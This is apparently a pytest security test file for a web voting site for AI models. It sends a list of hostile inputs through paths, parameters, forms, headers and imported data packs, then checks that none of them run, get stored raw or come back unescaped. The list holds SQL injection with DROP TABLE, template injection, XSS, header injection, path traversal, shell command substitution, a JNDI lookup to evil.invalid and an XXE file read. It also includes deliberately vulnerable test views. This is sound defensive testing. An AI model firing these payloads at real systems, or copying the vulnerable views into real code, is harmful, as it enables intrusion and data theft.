"""Hostile text through every input: it does not run, break or come back raw."""

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import cycle, islice
from pathlib import Path
from urllib.parse import quote_plus

import pytest
from flask import Response, render_template_string, request
from sqlalchemy import text
from werkzeug.test import TestResponse

from arena.catalogue import render_missing
from arena.refits import refit_now
from ledger.schema import metadata
from tests.fixtures.arena_app import OpenArena
from tests.fixtures.arena_site import ArenaSite, Voter, write_pack
from tests.web.security.routes import ManyAddresses, routes, settled

PRODUCT = str(7919 * 7907)  # what a template or a database would make of the sum below
MARK = "xq9zmark"
HOSTILE: dict[str, str] = {
    "SQL": f"{MARK}' OR '1'='1' --",
    "stacked SQL": f"{MARK}'); DROP TABLE vote; DELETE FROM ballot; --",  # noqa: S608 - meant to be
    "union": f"{MARK}' UNION SELECT text, 7919*7907 FROM answer --",  # noqa: S608 - as above
    "double quote": f'{MARK}" OR 1=1; --',
    "LIKE": f"{MARK}%_\\",
    "bound name": f"{MARK}:voter %(voter)s %s ?",
    "Jinja": f"{MARK}{{{{7919*7907}}}}{{% include '/etc/passwd' %}}",
    "Jinja reach": f"{MARK}{{{{config.items()}}}}{{{{''.__class__.__mro__}}}}",
    "format": f"{MARK}{{0.__class__}}${{7919*7907}}#{{7919*7907}}<%= 7919*7907 %>",
    "script": f"{MARK}<script>alert(1)</script>",
    "attribute": f'{MARK}" onload="alert(1)" x=\'',
    "picture": f"{MARK}<img src=x onerror=alert(1)>",
    "header": f"{MARK}\r\nSet-Cookie: evil=1\r\n\r\n<html>",
    "header, bare": f"{MARK}\nX-Evil: 1",
    "NUL": f"{MARK}\0",
    "path": f"../../../{MARK}/../etc/passwd",
    "shell": f"{MARK}; id | sh `id` $(id)",
    "JNDI": f"{MARK}${{jndi:ldap://evil.invalid/x}}",
    "XML": f'{MARK}<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "over-long": MARK + "A" * 5_000,
    "number": "9" * 400,
    "not a number": "NaN",
    "surrogate": f"{MARK}\ud800",
    "terminal": f"{MARK}\x1b[31m\x7f\u202e",
    "other digits": "٣٤٥",
}
NUL = HOSTILE["NUL"]
PARAMETERS = (
    "mode", "view", "month", "category", "since", "board", "model", "format", "a", "b", "theme",
    "size", "v", "ballot", "voter", MARK,
)  # fmt: skip
HEADERS = (
    "ACCEPT", "ACCEPT_LANGUAGE", "COOKIE", "FORWARDED", "HOST", "HX_CURRENT_URL", "HX_REQUEST",
    "HX_TARGET", "HX_TRIGGER_NAME", "IF_MODIFIED_SINCE", "IF_NONE_MATCH", "ORIGIN", "RANGE",
    "REFERER", "SEC_FETCH_SITE", "USER_AGENT", "X_FORWARDED_FOR", "X_FORWARDED_HOST",
    "X_FORWARDED_PROTO", "X_REQUEST_ID",
)  # fmt: skip
_FIELD = re.compile(r'\bname="([a-z_]+)"')


def field_names(project_root: Path) -> list[str]:
    """Return the name of every form field in the templates."""
    names = {"dwell_ms", "user", "username", "password", "code", "note", "id"}
    for path in (project_root / "templates").rglob("*.html"):
        names |= set(_FIELD.findall(path.read_text(encoding="utf-8")))
    return sorted(names - {"viewport"})


def encoded(hostile: str) -> str:
    """Return hostile text as an address or form carries it, bytes that are no text included."""
    return quote_plus(hostile.encode("utf-8", "surrogatepass"))


class Turns:
    """Hands out NUL and the next few of the other hostile texts, so that all get their turn."""

    def __init__(self, each: int) -> None:
        self._others = cycle(text for text in HOSTILE.values() if text != NUL)
        self._each = each

    def __iter__(self) -> Iterator[str]:
        """Yield the texts of one place."""
        yield NUL
        yield from islice(self._others, self._each)


def through_paths(arena: ArenaSite, browser: ManyAddresses) -> Iterator[TestResponse]:
    """Send each hostile text at the places of each route."""
    for route in routes(arena):
        for hostile in HOSTILE.values() if route.has_places else ():
            path = route.path_of_all(hostile.encode("utf-8", "replace").decode("utf-8"))
            for method in sorted(route.methods - {"OPTIONS", "HEAD"}):
                yield browser.next()._open(method, path, {})


def through_parameters(
    arena: ArenaSite, browser: ManyAddresses, own: str
) -> Iterator[TestResponse]:
    """Send hostile texts in each parameter of each page."""
    turns = Turns(1)
    for route in routes(arena):
        for name in PARAMETERS if "GET" in route.methods else ():
            for hostile in turns:
                query = f"{name}={encoded(hostile)}&{encoded(hostile)}=1"
                yield browser.next().get(route.path(route=own), query_string=query)


def through_forms(
    arena: ArenaSite, browser: ManyAddresses, own: str, token: str, names: list[str]
) -> Iterator[TestResponse]:
    """Send hostile texts in each field of each form beside sound ones, and as a field's name."""
    turns = Turns(4)
    sound = {"ballot": token, "verdict": "x", "slot": "A", "reason": "none"}
    for route in routes(arena):
        for method in sorted(route.methods - {"GET", "HEAD", "OPTIONS"}):
            for name in (*names, ""):
                for hostile in turns:
                    fields = {**sound, name or hostile: hostile}
                    body = "&".join(f"{encoded(k)}={encoded(v)}" for k, v in fields.items())
                    yield browser.next()._open(
                        method,
                        route.path(route=own),
                        {"data": body, "content_type": "application/x-www-form-urlencoded"},
                    )


def through_headers(arena: ArenaSite) -> Iterator[TestResponse]:
    """Send hostile texts in each header, to a page, a write, a file and an error."""
    turns = Turns(4)
    for number, name in enumerate(HEADERS):
        for method, path in (
            ("GET", "/"), ("POST", "/vote"), ("GET", "/static/css/base.css"), ("GET", "/nowhere"),
        ):  # fmt: skip
            for hostile in turns:
                raw = hostile.encode("utf-8", "surrogatepass").decode("latin-1")
                value = f"voter={raw}" if name == "COOKIE" else raw
                environ = {f"HTTP_{name}": value, "REMOTE_ADDR": f"198.19.0.{number + 1}"}
                yield arena.app.test_client().open(
                    path, method=method, environ_overrides=environ, buffered=True
                )


class Active(HTMLParser):
    """Collects what of a page would run or load by itself, in hostile text's own words."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Take note of handlers, of scripts, and of the picture that is not there."""
        self._in_script = tag == "script"
        for name, value in attrs:
            if name.startswith("on") or (tag, name, value) == ("img", "src", "x"):
                self.found.append(f"{tag} {name}")

    def handle_data(self, data: str) -> None:
        """Take note of code in a script element."""
        if self._in_script and "alert" in data:
            self.found.append("script")

    def handle_endtag(self, tag: str) -> None:  # noqa: ARG002 - the parser's own
        """Leave a script element."""
        self._in_script = False


def harm(response: TestResponse) -> list[str]:
    """Return what a response shows of hostile text that was run, believed or not escaped."""
    body = response.text
    found = [f"status {response.status_code}"] if response.status_code >= 500 else []
    if PRODUCT in body or "class &#39;str" in body or "<class" in body or "root:x:0" in body:
        found.append("it was run")
    if "alert(1)" in body and response.mimetype == "text/html":
        page = Active()
        page.feed(body)
        found += page.found
    names = {name.lower() for name, _ in response.headers}
    if "x-evil" in names or "evil=1" in response.headers.getlist("Set-Cookie"):
        found.append("a header was put in")
    return found


def stored_raw(arena: ArenaSite) -> list[str]:
    """Return the columns of all tables that the mark of hostile text got into."""
    found: list[str] = []
    with arena.database.read() as conn:
        for table in metadata.tables:
            for row in conn.execute(text(f"SELECT * FROM {table}")).mappings():  # noqa: S608
                found += [f"{table}.{name}" for name, value in row.items() if MARK in str(value)]
    return found


@pytest.mark.parametrize("way", ["paths", "parameters", "forms", "headers"])
def test_hostile_text_does_nothing(either_arena: ArenaSite, project_root: Path, way: str) -> None:
    """Through every address, parameter, field, header: a page or a 4xx, and nothing is stored."""
    arena = either_arena
    voter, own, token = settled(arena)
    browser = ManyAddresses(voter)
    tables = ("vote", "vote_reason", "report", "model", "answer", "question")
    before = [arena.count(table) for table in tables]
    answers = {
        "paths": lambda: through_paths(arena, browser),
        "parameters": lambda: through_parameters(arena, browser, own),
        "forms": lambda: through_forms(arena, browser, own, token, field_names(project_root)),
        "headers": lambda: through_headers(arena),
    }[way]()

    tried, bad = 0, {}
    for each in answers:
        tried += 1
        if found := harm(each):
            bad[f"{each.request.method} {each.request.full_path} {each.request.data!r:.90}"] = found

    assert bad == {}
    assert tried > 150
    assert stored_raw(arena) == []
    assert [arena.count(table) for table in tables] == before


def test_harm_is_found(arena: ArenaSite) -> None:
    """The check can fail: a view that runs, repeats or believes what it is told is reported."""

    def run() -> str:
        return render_template_string(request.args["x"])

    def repeat() -> str:
        return request.args["x"]

    def believe() -> Response:
        return Response(headers={"X-Evil": "1"})

    for name, view in (("run", run), ("repeat", repeat), ("believe", believe)):
        arena.app.add_url_rule(f"/{name}", name, view)
    reader = arena.voter()

    def asked(path: str, hostile: str) -> list[str]:
        return harm(reader.get(path, query_string={"x": hostile}))

    assert asked("/run", "{{7919*7907}}") == ["it was run"]
    assert asked("/run", "{{''.__class__}}") == ["it was run"]
    assert asked("/repeat", HOSTILE["script"]) == ["script"]
    assert asked("/repeat", HOSTILE["picture"]) == ["img src", "img onerror"]
    assert asked("/repeat", f"<b class=\"{HOSTILE['attribute']}'>") == ["b onload"]
    assert asked("/believe", "") == ["a header was put in"]
    assert asked("/repeat", HOSTILE["attribute"]) == []


def test_stored_text_is_found(arena: ArenaSite) -> None:
    """The check can fail: hostile text in a table is reported with its column."""
    arena.execute("UPDATE model SET maker = :text", text=HOSTILE["SQL"])

    assert set(stored_raw(arena)) == {"model.maker"}


def pages(arena: ArenaSite, voter: Voter) -> Iterator[TestResponse]:
    """Yield the pages and files that show something of an import."""
    browser = ManyAddresses(voter)
    yield browser.next().get("/")
    yield voter.get("/models")
    for slug in arena.models():
        yield browser.next().get(f"/models/{slug}")
    yield voter.get(f"/leaderboard/compare?a={slug}&b={slug}")
    for view in ("scores", "head-to-head", "makers", "exposure"):
        yield browser.next().get(f"/leaderboard?view={view}")
    yield voter.get("/feed.atom")


@pytest.mark.parametrize(
    "kind", ["SQL", "stacked SQL", "Jinja", "Jinja reach", "format", "script", "attribute",
             "picture", "XML", "bound name"],
)  # fmt: skip
def test_an_import_shows_as_text(open_empty_arena: OpenArena, tmp_path: Path, kind: str) -> None:
    """Names, makers, licences, questions, categories and answers of a pack are shown, never run."""
    hostile = HOSTILE[kind]
    arena = open_empty_arena()
    quoted = hostile.replace("\\", "\\\\").replace('"', '\\"')
    models = [
        (f"m-{n}", f"{n} {quoted}", f"{n} {quoted}", quoted, "https://x.invalid/") for n in range(5)
    ]
    folder = write_pack(tmp_path / "pack", "speed", questions=3, models=models)
    for name, part in (("answers.jsonl", "View "), ("questions.jsonl", "What of ")):
        path = folder / name
        escaped = hostile.replace("\\", "\\\\").replace('"', '\\"')
        path.write_text(path.read_text("utf-8").replace(part, f"{part}{escaped} "), "utf-8")
    path = folder / "questions.jsonl"
    path.write_text(path.read_text("utf-8").replace("Tests", quoted), "utf-8")
    arena.import_pack(folder)
    render_missing(arena.database)
    voter = arena.voter()
    bad = [harm(each) for each in pages(arena, voter)]
    reveal = voter.read_and_vote()
    arena.sequence()
    refit_now(arena.services.ports, "speed", "2026-11", arena.clock())
    bad += [harm(reveal), *(harm(each) for each in pages(arena, voter))]

    assert MARK in reveal.text
    assert [each for each in bad if each] == []
    assert arena.count("vote") == 1
    assert (arena.count("model"), arena.count("question")) == (5, 3)


@pytest.mark.parametrize(
    "link", ["javascript:alert(1)", "data:text/html,x", "//evil.invalid", "/x"]
)
def test_a_pack_brings_no_link_that_runs(
    open_empty_arena: OpenArena, tmp_path: Path, link: str
) -> None:
    """A model's link must be one to the web, so that a click runs nothing."""
    from arena.imports import plan

    models = [(f"m-{n}", f"Model {n}", f"Maker {n}", "CC0", link) for n in range(4)]
    folder = write_pack(tmp_path / "pack", "speed", questions=1, models=models)

    assert not plan(folder).is_sound
